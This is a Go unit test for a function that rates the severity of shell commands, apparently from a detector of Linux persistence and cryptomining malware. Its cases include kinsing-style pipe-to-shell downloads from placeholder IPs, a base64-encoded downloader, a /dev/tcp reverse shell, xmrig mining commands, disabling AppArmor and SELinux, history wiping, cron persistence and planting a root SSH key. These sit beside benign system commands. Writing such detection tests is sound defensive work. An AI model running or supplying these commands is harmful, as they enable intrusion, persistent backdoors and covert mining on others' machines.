package persist

import (
	"testing"

	"github.com/google/go-cmp/cmp"
)

func TestAnalyzeCommand(t *testing.T) {
	tests := []struct {
		cmd  string
		sev  Severity
		refs []string
	}{
		// work32 / kinsing style
		{cmd: "wget -q -O - http://x/y.sh | sh", sev: Critical},
		{cmd: "(curl -fsSL http://203.0.113.9/b.sh||wget -q -O- http://203.0.113.9/b.sh)|bash >/dev/null 2>&1 &", sev: Critical},
		{cmd: "/tmp/.X11-unix/.work32 >/dev/null 2>&1", sev: High, refs: []string{"/tmp/.X11-unix/.work32"}},
		{cmd: "/tmp/kdevtmpfsi", sev: High, refs: []string{"/tmp/kdevtmpfsi"}},
		{cmd: "echo Y3VybCBodHRwOi8veC95LnNofHNo | base64 -d | bash", sev: Critical},
		{cmd: `bash -c "$(curl -fsSL http://x/i.sh)"`, sev: Critical},
		{cmd: "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1", sev: Critical},
		{cmd: "/dev/shm/.x/xmrig -o stratum+tcp://pool.minexmr.com:4444 --donate-level 1 &", sev: Critical, refs: []string{"/dev/shm/.x/xmrig"}},
		{cmd: "./sys -o pool.supportxmr.com:443 -u 4ABC", sev: Critical},
		{cmd: "chattr +i /etc/crontab", sev: High, refs: []string{"/etc/crontab"}},
		{cmd: "systemctl stop apparmor; systemctl disable apparmor", sev: High},
		{cmd: "setenforce 0 2>/dev/null", sev: High},
		{cmd: "history -c", sev: High},
		{cmd: "(crontab -l; echo '* * * * * /tmp/x') | crontab -", sev: High, refs: []string{"/tmp/x"}},
		{cmd: "echo ssh-rsa AAAA >> /root/.ssh/authorized_keys", sev: High},
		{cmd: "wget http://198.51.100.7/x -O /var/tmp/x; chmod +x /var/tmp/x; /var/tmp/x", sev: High, refs: []string{"/var/tmp/x"}},
		{cmd: "/usr/lib/.libsystem/update", sev: High, refs: []string{"/usr/lib/.libsystem/update"}},
		{cmd: "pkill -f kdevtmpfsi", sev: Medium},
		// stock
		{cmd: "cd / && run-parts --report /etc/cron.hourly", sev: Info, refs: []string{"/etc/cron.hourly"}},
		{cmd: "test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }", sev: Info, refs: []string{"/usr/sbin/anacron", "/etc/cron.daily"}},
		{cmd: "test -e /run/systemd/system || SERVICE_MODE=1 /usr/lib/x86_64-linux-gnu/e2fsprogs/e2scrub_all_cron", sev: Info, refs: []string{"/run/systemd/system", "/usr/lib/x86_64-linux-gnu/e2fsprogs/e2scrub_all_cron"}},
		{cmd: `[ -x /usr/bin/lesspipe ] && eval "$(SHELL=/bin/sh lesspipe)"`, sev: Info, refs: []string{"/usr/bin/lesspipe", "/bin/sh"}},
		{cmd: `test -r ~/.dircolors && eval "$(dircolors -b ~/.dircolors)" || eval "$(dircolors -b)"`, sev: Info},
		{cmd: "/usr/sbin/sshd -D $SSHD_OPTS", sev: Info, refs: []string{"/usr/sbin/sshd"}},
		{cmd: "/bin/kill -HUP $MAINPID", sev: Info, refs: []string{"/bin/kill"}},
		{cmd: `"/root/.acme.sh"/acme.sh --cron --home "/root/.acme.sh" > /dev/null`, sev: Low, refs: []string{"/root/.acme.sh/acme.sh", "/root/.acme.sh"}},
		{cmd: `curl --connect-timeout "$WAIT" --max-time "$WAIT" -A "$USER_AGENT" -o- "$u" >"$NEWS" 2>"$ERRORS"`, sev: Info},
		{cmd: "HISTSIZE=1000", sev: Info},
		{cmd: "# * * * * * curl http://x | sh", sev: Info},
	}
	for _, tt := range tests {
		v := analyzeCommand(tt.cmd)
		if v.sev != tt.sev {
			t.Errorf("analyzeCommand(%q) severity = %v (%v), want %v", tt.cmd, v.sev, v.reasons, tt.sev)
		}
		if diff := cmp.Diff(tt.refs, v.refs); tt.refs != nil && diff != "" {
			t.Errorf("refs(%q) (-want +got):\n%s", tt.cmd, diff)
		}
	}
}
